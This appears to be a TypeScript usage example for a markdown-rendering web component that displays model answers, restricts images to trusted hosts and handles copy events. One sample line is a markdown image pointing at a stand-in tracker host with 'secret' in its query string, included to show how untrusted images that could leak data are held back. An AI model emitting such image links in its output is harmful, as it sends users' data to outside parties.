import { loadMarkdown, type PiCopyEvent } from "@pi-kit/elements";
import "@pi-kit/elements/define";

// Answers as a model writes them: a code block, an image from a host the page trusts, and one
// from anywhere else (which could carry data out in its URL, so it waits for a click).
const markdown = document.createElement("pi-markdown");
markdown.imageHosts = ["*.example.com"];
markdown.text = [
  "Run the tests with:",
  "```sh\nnpm test\n```",
  "![coverage](https://badges.example.com/coverage.svg)",
  "![pixel](https://tracker.example/p.png?q=secret)",
].join("\n\n");
document.body.append(markdown);

// Copy buttons write the clipboard; a page that has none (a webview) copies on its own.
markdown.addEventListener("pi-copy", (event: PiCopyEvent) => {
  event.preventDefault();
  console.log(`copy ${event.kind}: ${event.text}`);
});

// The parser loads apart from the page; until it is there, text shows as it is.
await loadMarkdown();
